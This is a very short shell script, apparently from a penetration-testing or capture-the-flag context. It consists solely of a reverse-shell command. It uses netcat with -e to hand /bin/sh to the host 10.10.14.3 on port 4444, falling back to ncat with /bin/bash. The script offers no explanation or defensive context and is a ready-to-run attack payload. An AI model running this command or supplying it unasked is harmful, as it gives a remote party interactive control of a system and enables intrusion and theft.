#!/bin/sh
# netcat with -e
nc -e /bin/sh 10.10.14.3 4444 || ncat 10.10.14.3 4444 -e /bin/bash
